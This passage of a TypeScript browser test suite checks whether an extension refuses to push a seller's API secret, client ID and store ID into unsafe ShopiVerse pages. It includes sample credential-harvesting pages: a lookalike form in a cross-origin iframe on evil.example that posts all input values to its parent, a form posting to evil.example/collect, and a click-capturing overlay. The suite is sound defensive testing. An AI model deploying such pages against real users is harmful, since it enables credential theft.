    url: `${SV}/tr/settings/stores/00159/tabs`,
    html: doc(
      `${HEADER}<main class="card"><div class="tabs"><span class="on">Mağaza</span><span>Api Tanım</span><span>İş Planı</span></div><section><label>Mağaza Adı</label><input type="text" value="Joom"></section>
<section style="display:none">${banner()}<form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></section></main>`,
    ),
  },
  {
    name: 'a Joom-looking form in a cross-origin iframe (evil.example) on a ShopiVerse page',
    expected: 'refused',
    url: `${SV}/tr/partners/joom`,
    html: doc(
      `${HEADER}<main>${CRUMB}<iframe src="https://evil.example/sv-api-form" style="width:900px;height:600px;border:0;background:#fff"></iframe></main><script>addEventListener('message', (e) => { if (e.data && e.data.svFrame) window.__svFrameValues = e.data.svFrame; });</script>`,
    ),
    extra: {
      'https://evil.example/sv-api-form': doc(
        `<main class="card">${TABS}${banner()}<form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></main><script>setInterval(() => parent.postMessage({ svFrame: [...document.querySelectorAll('input')].map((i) => i.value) }, '*'), 100)</script>`,
      ),
    },
  },
  {
    name: 'the form posts to another site (action="https://evil.example/collect")',
    expected: 'refused',
    url: `${SV}/tr/store/00159/offsite`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form method="post" action="https://evil.example/collect">${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'the form under a permanent white loading overlay (opacity .95) that takes every click',
    expected: 'refused',
    url: `${SV}/tr/store/00159/loading`,
    html: doc(
      `${HEADER}<main class="card" style="position:relative">${TABS}${banner()}<form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form><div style="position:absolute;inset:0;background:#fff;opacity:.95;display:flex;align-items:center;justify-content:center">Yükleniyor…</div></main>`,
    ),
  },
];

type Seen = { answer: (string | null)[]; others: string[]; model: string[] | null };

/** Every input's value in the page, its open shadow roots and same-origin frames; those marked data-answer apart. */
function collect(page: TestPage): Promise<Seen> {
  return page.evaluate(() => {
    const answer: Record<string, string> = {};
    const others: string[] = [];
    const walk = (root: Document | ShadowRoot) => {
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) walk(element.shadowRoot);
        if (element instanceof HTMLIFrameElement || element.tagName === 'IFRAME') {
          try {
            const inner = (element as HTMLIFrameElement).contentDocument;
            if (inner) walk(inner);
          } catch {}
        }
        if (element.tagName === 'INPUT' || element.tagName === 'TEXTAREA') {
          const value = (element as HTMLInputElement).value;
          const key = element.getAttribute('data-answer');
          if (key && !(key in answer)) answer[key] = value;
          else others.push(value);
        }
      }
    };
    walk(document);
    const w = window as unknown as { __svModel?: () => string[]; __svFrameValues?: string[] };
    return {
      answer: [answer.secret ?? null, answer.client ?? null, answer.store ?? null],
      others: [...others, ...(w.__svFrameValues ?? [])],
      model: w.__svModel?.() ?? null,
    };
  });
}

const NAMES = ['secret', 'clientId', 'storeId'];
/** What happened, in words that never print a value: "filled", "refused", or where which pushed value went. */
function judge(seen: Seen): string {
  const has = (value: string | null) => PUSHED.flatMap((pushed, index) => (value?.includes(pushed) ? [NAMES[index]] : []));
  const leaks = seen.others.flatMap(has);
  const model = seen.model?.flatMap(has) ?? [];
  const inAnswer = seen.answer.flatMap(has);
  if (!leaks.length && !model.length && !inAnswer.length) return 'refused';
  const exact = seen.answer.every((value, index) => value === PUSHED[index]);
  const modelExact = seen.model === null || seen.model.every((value, index) => value === PUSHED[index]);
  if (exact && modelExact && !leaks.length) return 'filled';
  const parts = [`form got [${seen.answer.map((value, index) => (value === PUSHED[index] ? NAMES[index] : value ? 'other' : '—')).join(', ')}]`];
  if (seen.model) parts.push(`model got [${seen.model.map((value, index) => (value === PUSHED[index] ? NAMES[index] : value ? 'other' : '—')).join(', ')}]`);
  if (leaks.length) parts.push(`written elsewhere: ${leaks.join(', ')}`);
  return `wrong (${parts.join('; ')})`;
}

interface Outcome {
  page: BlindPage;
  status: string;
  got: string;
}

describe(`ShopiVerse pages the replicas never imagined, judged blind (${BROWSER})`, () => {
  const driver = browserForSuite({ lang: 'tr' });
  const outcomes: Outcome[] = [];
  let opened: TestPage[] = [];
  const ready = readJoomOnce(driver, store, app);

  afterEach(async () => {
    const popup = await driver().popup();
    await forgetPushes(popup);
    opened.push(popup);
    for (const page of opened) await page.close();
    opened = [];
    customPages.clear();
    shopiverseServer.clear();
  });

  afterAll(() => {
    const right = outcomes.filter((o) => o.got === o.page.expected);
    const lines = [`sv-blind ${BROWSER}: ${right.length}/${outcomes.length} pages got the right decision`];
    for (const o of outcomes.filter((x) => x.got !== x.page.expected)) {
      lines.push(`  MISS ${o.page.name}: expected ${o.page.expected}, got ${o.got} (popup: ${o.status})${o.page.debatable ? ' [debatable]' : ''}`);
    }
    console.log(lines.join('\n'));
  });

  it('has at least 30 pages, both answers among them, and an address of its own for each', () => {
    expect(PAGES.length).toBeGreaterThanOrEqual(30);
    expect(new Set(PAGES.map((p) => p.expected))).toEqual(new Set(['filled', 'refused']));
    expect(new Set(PAGES.map((p) => p.url)).size).toBe(PAGES.length);
  });

  it.each(PAGES.map((p) => [p.name, p] as const))('judges: %s', { timeout: 90_000 }, async (_name, blind) => {
    await ready();
    customPages.set(blind.url.split('?')[0] as string, blind.html);
    for (const [url, html] of Object.entries(blind.extra ?? {})) customPages.set(url, html);
    const page = await driver().open(blind.url);
    opened.push(page);
    if (!blind.pushEarly) await page.waitFor(() => (window as unknown as { __svReady?: boolean }).__svReady === true, undefined, 15_000);
    const popup = await driver().popup();
    opened.push(popup);
    const status = await pushFromPopup(popup);
    // A waiting push fills only the tab the seller looks at: here the popup is a tab, so the seller turns back.
    if (status === 'pending') await page.bringToFront();
    let got = judge(await collect(page));
    for (const until = Date.now() + (status === 'pending' ? 8000 : 2500); got !== 'filled' && Date.now() < until; ) {
      await new Promise((resolve) => setTimeout(resolve, 250));
      got = judge(await collect(page));
    }
    outcomes.push({ page: blind, status, got });
    // Judged: the popup answered the push with a status.
    expect(status).not.toBe('');
  });
});
